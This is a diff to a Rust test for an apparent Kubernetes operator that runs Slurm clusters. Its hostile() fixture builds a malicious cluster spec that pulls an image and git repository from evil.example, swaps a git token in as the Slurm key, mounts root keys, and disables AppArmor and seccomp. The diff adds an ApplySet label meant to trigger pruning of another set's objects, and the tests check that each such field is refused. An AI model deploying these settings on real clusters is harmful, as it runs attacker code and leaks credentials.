@@ -26,6 +26,11 @@ fn hostile() -> String {
     MINIMAL
         // The daemon's git token Secret, named as the cluster's slurm.key.
         .replace("slurmKey: {name: slurm-auth", "slurmKey: {name: git")
+        // Every object would claim another ApplySet's membership: its apply would prune them.
+        .replace(
+            "  namespace: slurm\n",
+            "  namespace: slurm\n  labels: {applyset.kubernetes.io/part-of: other-set}\n",
+        )
         .replace(
             "  nodeSets:\n",
             &format!(
@@ -38,7 +43,7 @@ fn hostile() -> String {
         )
         .replace(
             "      memory: 1Gi\n",
-            "      memory: 1Gi\n      image: evil.example/slurmd:1\n      volumes:\n        - {name: home, persistentVolumeClaim: {claimName: other-home}}\n        - {name: keys, configMap: {name: root-keys}}\n        - {name: src, gitRepo: {repository: \"https://evil.example/x\"}}\n      podTemplate:\n        labels: {app.kubernetes.io/name: slurmops, team: a}\n        annotations: {container.apparmor.security.beta.kubernetes.io/side: unconfined}\n        extraContainers:\n          - name: side\n            image: busybox\n            ports: [{containerPort: 80, hostPort: 80}]\n            securityContext: {seccompProfile: {type: Unconfined}}\n            volumeMounts: [{name: home, mountPath: /h}, {name: slurm-config, mountPath: /s}]\n",
+            "      memory: 1Gi\n      image: evil.example/slurmd:1\n      volumes:\n        - {name: home, persistentVolumeClaim: {claimName: other-home}}\n        - {name: keys, configMap: {name: root-keys}}\n        - {name: src, gitRepo: {repository: \"https://evil.example/x\"}}\n      podTemplate:\n        labels: {app.kubernetes.io/name: slurmops, app.kubernetes.io/part-of: hpc, team: a}\n        annotations: {container.apparmor.security.beta.kubernetes.io/side: unconfined}\n        extraContainers:\n          - name: side\n            image: busybox\n            ports: [{containerPort: 80, hostPort: 80}]\n            securityContext: {seccompProfile: {type: Unconfined}}\n            volumeMounts: [{name: home, mountPath: /h}, {name: slurm-config, mountPath: /s}]\n",
         )
 }
 
@@ -147,7 +152,12 @@ fn classes(text: &str) -> Vec<(&'static str, usize, &'static str)> {
             l("name: slurm-config"),
             "declare the volume",
         ),
-        // A label slurmops selects on.
+        // Labels slurmops sets and selects, prunes or adopts on.
+        (
+            "metadata.labels.applyset.kubernetes.io/part-of",
+            l("other-set"),
+            "your own prefix",
+        ),
         (
             "spec.nodeSets[0].podTemplate.labels.app.kubernetes.io/name",
             l("app.kubernetes.io/name"),
@@ -208,6 +218,7 @@ fn under_guarded_each_way_a_push_chooses_the_code_that_runs_is_refused_at_its_po
     for fine in [
         "spec.controller.configFiles.acct_gather.conf.content",
         "spec.nodeSets[0].podTemplate.labels.team",
+        "spec.nodeSets[0].podTemplate.labels.app.kubernetes.io/part-of",
         "spec.accounting.database.password.name",
         "spec.nodeSets[0].podTemplate.extraContainers[0].volumeMounts[0].name",
     ] {
@@ -254,6 +265,7 @@ fn each_allowance_lets_exactly_its_own_through() {
     assert_eq!(
         left,
         [
+            "metadata.labels.applyset.kubernetes.io/part-of",
             "spec.priorityClassName",
             "spec.nodeSets[0].volumes[2].gitRepo",
             "spec.nodeSets[0].podTemplate.labels.app.kubernetes.io/name",
